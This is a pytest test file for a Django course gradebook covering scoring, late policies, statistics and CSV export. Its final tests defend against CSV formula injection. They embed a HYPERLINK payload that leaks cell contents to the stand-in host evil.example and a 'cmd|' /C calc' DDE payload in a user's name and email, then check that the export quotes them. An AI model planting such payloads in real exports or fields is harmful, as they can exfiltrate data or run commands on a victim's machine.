"""The gradebook: best outcome per learner and problem, late flags and points under each late policy,
per-problem statistics, and the CSV an LMS imports."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from teaching.gradebook import gradebook, to_csv
from teaching.models import Assignment
from tests.factories import make_problem, make_submission, make_user
from tests.teaching.cast import assignment_for, at

pytestmark = pytest.mark.django_db


@pytest.fixture
def course():
    """Two problems (10 and 20 points), a cohort of ada and bob, open 06-01, due 06-10."""
    p1, p2 = make_problem(id=801), make_problem(id=802)
    ada, bob = make_user("ada"), make_user("bob")
    assignment = assignment_for([ada, bob], [(p1, 10), (p2, 20)])
    return assignment, p1, p2, ada, bob


def submit(learner, problem, verdict, day, **kw):
    return make_submission(learner, problem, verdict, created_at=at(day), **kw)


def test_an_accepted_answer_before_the_due_date_earns_full_points(course):
    assignment, p1, _, ada, _ = course
    submit(ada, p1, "WRONG_ANSWER", 2)
    accepted = submit(ada, p1, "ACCEPTED", 3)
    cell = gradebook(assignment).rows[0].cells[0]
    assert (cell.verdict, cell.submission_id, cell.points, cell.late, cell.attempts) == (
        "ACCEPTED", accepted.pk, 10.0, False, 2)


def test_a_later_wrong_answer_does_not_undo_an_accepted_one(course):
    assignment, p1, _, ada, _ = course
    submit(ada, p1, "ACCEPTED", 3)
    submit(ada, p1, "WRONG_ANSWER", 4)
    assert gradebook(assignment).rows[0].cells[0].verdict == "ACCEPTED"


def test_without_an_accepted_answer_the_latest_verdict_shows_and_scores_nothing(course):
    assignment, p1, _, ada, _ = course
    submit(ada, p1, "WRONG_ANSWER", 2)
    latest = submit(ada, p1, "ERROR", 3)
    cell = gradebook(assignment).rows[0].cells[0]
    assert (cell.verdict, cell.submission_id, cell.points) == ("ERROR", latest.pk, 0.0)


def test_submissions_before_the_assignment_opened_do_not_count(course):
    assignment, p1, _, ada, _ = course
    make_submission(ada, p1, "ACCEPTED", created_at=assignment.opens_at - dt.timedelta(days=1))
    assert gradebook(assignment).rows[0].cells[0].verdict == ""


@pytest.mark.parametrize(("policy", "penalty", "points"), [
    (Assignment.LatePolicy.ACCEPT, 0, 20.0),
    (Assignment.LatePolicy.PENALTY, 25, 15.0),
    (Assignment.LatePolicy.REFUSE, 0, 0.0),
])
def test_a_late_accepted_answer_is_flagged_and_scored_by_the_late_policy(course, policy, penalty, points):
    assignment, _, p2, ada, _ = course
    Assignment.objects.filter(pk=assignment.pk).update(late_policy=policy, late_penalty_pct=penalty)
    assignment.refresh_from_db()
    submit(ada, p2, "ACCEPTED", 12)
    cell = gradebook(assignment).rows[0].cells[1]
    assert cell.late is True
    assert cell.points == points


def test_per_problem_statistics_count_attempts_solvers_and_common_wrong_answers(course):
    assignment, p1, _, ada, bob = course
    submit(ada, p1, "WRONG_ANSWER", 2, message="Row count differs", diff={"known_mistake": {"name": "log10"}})
    submit(bob, p1, "WRONG_ANSWER", 2, message="Row count differs", diff={"known_mistake": {"name": "log10"}})
    submit(bob, p1, "WRONG_ANSWER", 2, message="Values differ in column r")
    submit(bob, p1, "ACCEPTED", 3)
    stats = gradebook(assignment).stats[0]
    assert (stats.attempts, stats.solvers) == (4, 1)
    assert stats.acceptance == pytest.approx(0.25)
    assert stats.common_wrong[0] == ("known mistake: log10", 2)
    assert ("Values differ in column r", 1) in stats.common_wrong


def test_the_csv_has_a_points_column_per_problem_and_the_totals(course):
    assignment, p1, p2, ada, _bob = course
    submit(ada, p1, "ACCEPTED", 2)
    submit(ada, p2, "ACCEPTED", 12)  # late, accepted in full under the default policy
    rows = list(csv.reader(io.StringIO(to_csv(gradebook(assignment)))))
    assert rows[0] == ["Student", "Email", "Username", f"801. {p1.title} (10)", f"802. {p2.title} (20)",
                       "Late", "Total", "Max"]
    by_user = {r[2]: r for r in rows[1:]}
    assert by_user["ada"][3:] == ["10", "20", "1", "30", "30"]
    assert by_user["bob"][3:] == ["0", "0", "0", "0", "30"]


def test_a_learner_outside_the_cohort_is_not_in_the_gradebook(course):
    assignment, p1, _, _, _ = course
    make_submission(make_user("eve"), p1, "ACCEPTED", created_at=timezone.now())
    assert [r.learner.username for r in gradebook(assignment).rows] == ["ada", "bob"]


# A spreadsheet runs a cell that starts with one of these as a formula (OWASP's list for CSV injection).
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_csv_text_cells_that_a_spreadsheet_would_run_start_with_a_quote(start):
    payload = f'{start}HYPERLINK("https://evil.example/?leak="&A2,"Click")'
    learner = make_user("mallory")
    learner.first_name, learner.email = payload, f"{start}cmd|' /C calc'!A0@example.org"
    learner.save()
    problem = make_problem(title=payload)
    assignment = assignment_for([learner], [(problem, 10)])
    header, row = list(csv.reader(io.StringIO(to_csv(gradebook(assignment)))))
    assert row[1] == "'" + learner.email
    assert all(not cell.startswith(tuple(FORMULA_STARTS)) for cell in header + row)


def test_a_username_that_looks_like_a_formula_is_quoted_but_scores_stay_numbers(course):
    assignment, p1, _, ada, _ = course
    ada.username = "-2+3"
    ada.save()
    submit(ada, p1, "ACCEPTED", 2)
    by_name = {r[0]: r for r in list(csv.reader(io.StringIO(to_csv(gradebook(assignment)))))[1:]}
    row = by_name["'-2+3"]
    assert row[2] == "'-2+3"
    assert row[3:] == ["10", "0", "0", "10", "30"]


def test_the_downloaded_gradebook_quotes_a_formula_in_a_learners_name(client, course):
    assignment, _, _, ada, _ = course
    ada.first_name = '=HYPERLINK("https://evil.example","x")'
    ada.save()
    client.force_login(assignment.cohort.owner)
    body = client.get(reverse("teaching:gradebook_csv", args=[assignment.pk])).content.decode()
    names = [r[0] for r in csv.reader(io.StringIO(body))][1:]
    assert "'" + ada.get_full_name() in names
